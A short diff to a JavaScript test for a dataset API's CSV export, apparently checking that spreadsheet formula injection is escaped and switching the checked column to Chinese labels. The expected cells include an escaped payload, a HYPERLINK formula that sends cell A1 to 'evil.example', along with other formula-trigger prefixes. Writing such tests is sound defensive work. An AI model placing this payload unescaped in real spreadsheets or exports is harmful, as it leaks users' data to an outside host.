@@ -45,7 +45,8 @@ describe('records CSV and download CSV', () => {
     const download = await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/data.csv?bom=1`);
     const records = await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/records?format=csv&bom=1&limit=all`);
     expect(records.equals(download)).toBe(true);
-    const cells = column(records, text.name).slice(0, formulas.length);
+    // The Excel variant is headed by the Chinese labels (issue 16), as data.csv?bom=1 of a version built now.
+    const cells = column(records, text.label_zh).slice(0, formulas.length);
     expect(cells).toEqual(['\'=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tTAB", "'\rCR", 'plain, "quoted"\r\nnext line', '']);
   });
 
